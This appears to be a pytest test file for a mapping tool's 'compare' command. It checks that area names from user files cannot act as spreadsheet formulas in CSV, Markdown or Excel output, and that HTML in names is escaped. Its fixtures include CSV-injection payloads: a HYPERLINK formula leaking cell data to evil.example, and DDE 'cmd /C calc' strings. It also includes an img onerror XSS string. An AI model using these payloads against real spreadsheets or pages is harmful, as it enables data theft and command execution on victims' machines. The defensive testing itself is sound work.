"""CSV, Markdown and Excel outputs of `compare` never carry a formula from a user's file.

Area names come from a user's NOVEX or municipality file. A name such as
``=HYPERLINK(...)`` must reach every CSV and Markdown cell, and the workbook, as
text that a spreadsheet does not run; numbers stay numbers.
"""

from __future__ import annotations

import csv as _csv
import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from geo.analysis import analyse
from geo.comparison import Comparison, HeadToHead, compare_areas
from layers.region import Region, load_region
from layers.samples import load_sample_projects
from mapbuilder.cli import main
from mapbuilder.compare.formats import (
    excel_safe,
    format_comparison,
    format_head_to_head,
    md_cell,
    parse_value,
)
from mapbuilder.compare.xlsx import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"), ("+31 20", "'+31 20"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Amsterdam", "Amsterdam"), ("'al veilig", "'al veilig"), ("", ""),
    ("a=b", "a=b")])
def test_excel_safe(text: str, safe: str) -> None:
    assert excel_safe(text) == safe


def _novex_file(region: Region, tmp: Path, name: str) -> Path:
    """The built-in NOVEX areas as a user's file, the first one named ``name``."""
    gdf = region.novex[["code", "name_nl", "geometry"]].rename(columns={"name_nl": "name"})
    gdf.loc[0, "name"] = name
    gdf.loc[0, "code"] = name  # the code is text from the file too
    path = tmp / "novex.geojson"
    path.write_text(gdf.to_json(), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Comparison]:
    """One NOVEX comparison per hostile name, read through load_region(novex=FILE)."""
    base = load_region()
    projects = load_sample_projects()
    out = {}
    for i, name in enumerate(HOSTILE):
        path = _novex_file(base, tmp_path_factory.mktemp(f"novex{i}"), name)
        region = load_region(novex=path)
        out[name] = compare_areas(analyse(projects, region), by="novex")
    return out


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_cells_are_neutralised(hostile_tables: dict[str, Comparison], name: str) -> None:
    result = hostile_tables[name]
    table = result.table
    # a NOVEX file's names are read stripped of surrounding white space; codes are kept as given
    assert name.strip() in set(table["name"]) and name in set(table.index)
    text = format_comparison(result, "csv-plain")
    back = pd.read_csv(io.StringIO(text), comment="#", index_col="key",
                       dtype={"name": str, "key": str, "population_date": str})
    assert f"'{name}" in set(back.index) and f"'{name.strip()}" in set(back["name"])
    for cell in [*back.index, *back["name"], *back.columns]:
        assert not str(cell).startswith(FORMULA), cell
    # numbers are untouched: full precision, also the column named after the area
    nums = table.select_dtypes("number")
    got = back.set_axis(table.index)[nums.columns].astype(float)
    np.testing.assert_allclose(got.to_numpy(), nums.to_numpy(dtype=float), rtol=1e-12)


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_cells_are_neutralised(hostile_tables: dict[str, Comparison],
                                        name: str) -> None:
    text = format_comparison(hostile_tables[name], "md")
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert len(rows) > 10
    seen = False
    for line in rows:
        for cell in line[2:-2].split(" | "):
            if cell.startswith(FORMULA):  # only numbers may start so (negative values)
                assert not np.isnan(parse_value(cell)), cell
            seen |= cell in ("'" + md_cell(name), "'" + md_cell(name.strip()))
    assert seen


def test_head_to_head_csv_and_md_headers(hostile_tables: dict[str, Comparison]) -> None:
    name = HOSTILE[0]
    result = hostile_tables[name]
    table = result.table
    h2h = head_to_head_like(result, table["name"].iloc[0], table["name"].iloc[1])
    assert name in h2h.table.columns
    csv = format_head_to_head(h2h, "csv-plain")
    rows = list(_csv.reader(line for line in io.StringIO(csv) if not line.startswith("#")))
    assert rows[0][1] == f"'{name}"
    for row in rows:
        assert not any(cell.startswith(FORMULA) for cell in row[:1] + rows[0]), row
    md = format_head_to_head(h2h, "md")
    assert f"| '{md_cell(name)} |" in md


def head_to_head_like(result: Comparison, a: str, b: str) -> HeadToHead:
    """A head-to-head of two rows of ``result`` (as geo.compare_two builds it)."""
    table = result.table
    numeric = [c for c in table.columns if c not in ("name", "subregion", "population_date")]
    ka, kb = table.index[table["name"] == a][0], table.index[table["name"] == b][0]
    out = pd.DataFrame({a: table.loc[ka, numeric].astype(float),
                        b: table.loc[kb, numeric].astype(float)})
    out["difference"] = out[a] - out[b]
    out.index.name = "figure"
    return HeadToHead(table=out, comparison=result, a=str(ka), b=str(kb),
                      population_date={a: "", b: ""})


@pytest.mark.parametrize("name", HOSTILE)
def test_workbook_text_is_never_a_formula(hostile_tables: dict[str, Comparison], name: str,
                                          tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_workbook(tmp_path / "book.xlsx", {"novex": hostile_tables[name]})
    wb = load_workbook(path)
    ws = wb["NOVEX-gebieden"]
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    stored = {f"'{name}", f"'{name}".replace("\r", "\n")}  # XML reads CR back as LF
    assert any(c.value in stored for c in texts)
    for cell in texts:
        assert cell.data_type == "s" and not cell.value.startswith(FORMULA), cell.value
    assert not any(c.data_type == "f" for s in wb.worksheets for row in s.iter_rows()
                   for c in row)


def test_cli_csv_from_a_hostile_municipality_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 region: Region, capsys) -> None:
    """Subregion names from a user's municipality file, through the command line."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TRANSITIEKAART_REGISTER", raising=False)
    mun = region.municipalities[["code", "subregion", "geometry"]].copy()
    mun.loc[mun["subregion"] == "IJmond", "subregion"] = HOSTILE[1]
    (tmp_path / "gemeenten.geojson").write_text(mun.to_json(), encoding="utf-8")
    for fmt in ("csv-plain", "md"):
        assert main(["compare", "--municipalities", "gemeenten.geojson", "--format", fmt,
                     "--out", f"cmp.{fmt.removesuffix('-plain')}"]) == 0
    csv = (tmp_path / "cmp.csv").read_text(encoding="utf-8")
    assert f"'{HOSTILE[1]}" in csv
    for line in csv.splitlines():
        if not line.startswith("#"):
            assert not line.startswith(FORMULA) and ",+" not in line and ',"+' not in line
    md = (tmp_path / "cmp.md").read_text(encoding="utf-8")
    assert f"| '{md_cell(HOSTILE[1])} |" in md and f"| {md_cell(HOSTILE[1])}" not in md
    assert "Vergelijking geschreven naar" in capsys.readouterr().out


def test_json_keeps_names_verbatim(hostile_tables: dict[str, Comparison]) -> None:
    """JSON is data for programs, not a spreadsheet: names travel unchanged."""
    doc = json.loads(format_comparison(hostile_tables[HOSTILE[0]], "json"))
    assert HOSTILE[0] in [a["name"] for a in doc["areas"]]


def test_official_novex_file_is_named_not_indicative(
        hostile_tables: dict[str, Comparison]) -> None:
    result = hostile_tables[HOSTILE[0]]
    assert result.novex_files == ("novex.geojson",)
    text = format_comparison(result, "csv-plain")
    assert "# NOVEX-grenzen uit het opgegeven bestand (novex.geojson)." in text
    assert "indicatief" not in text


@pytest.mark.parametrize("lang", ["nl", "en"])
@pytest.mark.parametrize(("col", "value"), [("n_projects", -3), ("area_km2", -171.94),
                                            ("share_of_mra", -0.142), ("lq_ai", -1.114),
                                            ("total_eur", -197.0)])
def test_negative_figures_carry_the_printed_minus(col, value, lang):
    from layers.lang import MINUS
    from mapbuilder.compare.formats import format_value, parse_value, round_shown

    text = format_value(col, value, lang)
    assert text.startswith(MINUS) and "-" not in text
    assert parse_value(text, lang) == pytest.approx(round_shown(col, value))
    assert not format_value(col, -0.0001, lang).startswith((MINUS, "-"))  # shown as 0


def test_markdown_escapes_html_in_area_names(tmp_path: Path) -> None:
    """An area name is text in Markdown, never HTML a viewer would run."""
    name = '<img src=x onerror="alert(1)">Zaan & <b>dam</b>'
    base = load_region()
    region = load_region(novex=_novex_file(base, tmp_path, name))
    result = compare_areas(analyse(load_sample_projects(), region), by="novex")
    table = result.table
    text = format_comparison(result, "md")
    assert "<" not in text and ">" not in text.replace("\n>", "")
    assert "&lt;img src=x onerror=\"alert(1)\"&gt;Zaan &amp; &lt;b&gt;dam&lt;/b&gt;" in text
    h2h = head_to_head_like(result, table["name"].iloc[0], table["name"].iloc[1])
    assert "<img" not in format_head_to_head(h2h, "md")
